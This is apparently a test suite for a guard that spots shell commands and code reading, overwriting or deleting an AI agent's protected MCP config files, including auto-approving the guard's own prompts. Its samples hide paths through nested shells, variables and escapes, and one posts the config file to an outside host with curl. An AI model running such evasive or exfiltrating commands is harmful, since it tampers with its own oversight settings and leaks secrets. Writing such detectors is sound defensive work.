import { describe, expect, it } from 'vitest'
import {
  isAbsolute,
  joined,
  touchesOfCode,
  touchesOfShell,
  touchesOfWords,
} from '../../../../../src/guardian/rules/protected-files/shell-touches.ts'

const access = (line: string, path: string, base?: string) =>
  touchesOfShell(line, base)
    .touches.filter((touch) => joined(touch.base, touch.path) === path)
    .map((touch) => touch.access)
    .at(-1)

describe('touchesOfShell', () => {
  it.each([
    ['echo {} > .mcp.json', 'write'],
    ['cat x | tee -a .mcp.json', 'write'],
    ['cat .mcp.json', 'read'],
    ['sudo -u root sed -i s/a/b/ .mcp.json', 'write'],
    ['env A=1 nohup rm .mcp.json', 'relocate'],
    ['F=.mcp.json; echo x > $F', 'write'],
    ['F=.mcp; echo x > "$'.concat('{F}.json"'), 'write'],
    ['bash -c "echo x > .mcp.json"', 'write'],
    [`sh -c 'bash -c "rm .mcp.json"'`, 'relocate'],
    ['eval "rm .mcp.json"', 'relocate'],
    [`python3 -c "open('.mcp.json','w').write('x')"`, 'write'],
    [`python3 -c "print(open('.mcp.json').read())"`, 'read'],
    ["python3 - <<E\nopen('.mcp.json','w')\nE", 'write'],
    ['sh <<E\nrm .mcp.json\nE', 'relocate'],
    ['dd if=x of=.mcp.json', 'write'],
    ['curl --output=.mcp.json http://x', 'write'],
    ['curl -d @.mcp.json http://x', 'write'],
    ['docker run -v .mcp.json:/x i', 'write'],
    ['cat .m\\cp.json', 'read'],
    ['cat .{mcp,x}.json', 'read'],
    ['powershell -Command Set-Content .mcp.json x', 'write'],
    ['cmd /c del .mcp.json', 'relocate'],
    ['ls && (rm .mcp.json)', 'relocate'],
    ['x=$(cat .mcp.json)', 'read'],
    ['git apply <<E\n+++ b/.mcp.json\nE', 'write'],
    ['if true; then rm .mcp.json; fi', 'relocate'],
  ])('%s', (line, expected) => {
    expect(access(line, '.mcp.json')).toBe(expected)
  })

  it('follows the folder', () => {
    expect(access('cd ~/.cursor && echo x > mcp.json', '~/.cursor/mcp.json')).toBe('write')
    expect(access('cd a; cd b; rm c', 'a/b/c')).toBe('relocate')
    expect(access('rm c', '/w/c', '/w')).toBe('relocate')
  })

  it.each([
    'git commit -m "change .mcp.json"',
    'echo "see .mcp.json"',
    'cat > notes.md <<E\nrm .mcp.json\nE',
    'grep .mcp.json README.md',
    'ls # .mcp.json',
  ])('takes prose for no file: %s', (line) => {
    expect(access(line, '.mcp.json')).toBeUndefined()
  })

  it('finds commands to the guard, wherever they stand', () => {
    const deeds = (line: string) => touchesOfShell(line).commands.map(({ deed }) => deed)
    expect(deeds('cd x && yes | npx mcip approve 7')).toEqual(['approve'])
    expect(deeds('bash -c "mcip turn hello"')).toEqual(['turn'])
    expect(deeds('echo mcip approve 7')).toEqual([])
  })

  it.each([
    'a=.cursor; cat $a/mcp.json',
    'export a=.cursor && cat $\u007ba}/mcp.json',
    'set a=.cursor & type %a%/mcp.json',
    "$a = '.cursor'; cat $a/mcp.json",
    "cat $'\\x2ecursor/mcp.json'",
    'cat {x,.cursor}/mcp.json',
    `cat ${'x '.repeat(5_000)} .cursor/mcp.json`,
    `${'true; '.repeat(5_000)} cat .cursor/mcp.json`,
    `${'#'.repeat(1_000_000)}\ncat .cursor/mcp.json`,
    'sh -c "bash -c \'sh -c \\"bash -c \\\\\\"cat .cursor/mcp.json\\\\\\"\\"\'"',
    'c=cat; $c .cursor/mcp.json',
    'cat .cur`sor/mcp.json',
    'cat .cur^sor/mcp.json',
    'cat ".cursor"/\'mcp\'.json',
  ])('finds a path however it is hidden: %.60s', (line) => {
    const paths = touchesOfShell(line).touches.map(({ base, path }) => joined(base, path))
    expect([line.slice(0, 60), paths]).toEqual([
      line.slice(0, 60),
      expect.arrayContaining(['.cursor/mcp.json']),
    ])
  })

  it('takes what it cannot know for anything', () => {
    const paths = (line: string) => touchesOfShell(line).touches.map(({ path }) => path)
    expect(paths('cat .cur$\u007bUNSET}sor/mcp.json')).toContain('.cur*sor/mcp.json')
    expect(paths('cat .cur$(true)sor/mcp.json')).toContain('.cur*sor/mcp.json')
  })

  it('says where it did not look at all of a line', () => {
    for (const line of [
      `A=xxxxxxxx;${'A=$A$A;'.repeat(5_000)}`,
      `${'cd aaaaaaaaaa;'.repeat(5_000)} cat x`,
      `cat ${'x '.repeat(70_000)}`,
      'cat '.concat('{a,b}'.repeat(10_000)),
      '$('.repeat(100),
    ]) {
      expect([line.slice(0, 20), touchesOfShell(line).isWhole]).toEqual([line.slice(0, 20), false])
    }
    for (const line of [
      'ls -la src && npm test',
      `curl -d '{${'"a":[1,2],'.repeat(500)}}' https://example.org`,
      `cat > x <<END\n${'line of text\n'.repeat(20_000)}END`,
    ]) {
      expect([line.slice(0, 20), touchesOfShell(line).isWhole]).toEqual([line.slice(0, 20), true])
    }
  })

  it('reads hostile lines in bounded time', () => {
    for (const line of [
      'bash -c '.repeat(10_000),
      `eval "${'eval '.repeat(5_000)}"`,
      `cp ${'a '.repeat(20_000)}${'b'.repeat(200_000)}`,
      '`'.repeat(100_001),
    ]) {
      expect(touchesOfShell(line).touches.length).toBeLessThanOrEqual(65_536)
    }
  })
})

it('takes a program and its words as they are', () => {
  const { touches, commands } = touchesOfWords(['rm', 'a b', '>'])
  expect(touches.map(({ path }) => path)).toEqual(['a b', '>'])
  expect(touchesOfWords(['mcip', 'approve', '1']).commands).toEqual([{ deed: 'approve' }])
  expect(commands).toEqual([])
})

it('takes code as a whole for writing or reading', () => {
  expect(touchesOfCode("open('x')", '/w').touches).toEqual([
    { path: 'x', access: 'read', base: '/w' },
  ])
  expect(touchesOfCode("open('x', 'w')").touches[0]).toEqual({ path: 'x', access: 'write' })
})

it('tells a path that says where it begins', () => {
  for (const path of ['/a', '\\a', '~/a', '$HOME/a', '%X%', 'C:\\a', 'file:///a']) {
    expect(isAbsolute(path)).toBe(true)
  }
  expect(isAbsolute('a/b')).toBe(false)
  expect(joined('/w', 'a')).toBe('/w/a')
  expect(joined('/w', '/a')).toBe('/a')
  expect(joined(undefined, 'a')).toBe('a')
})
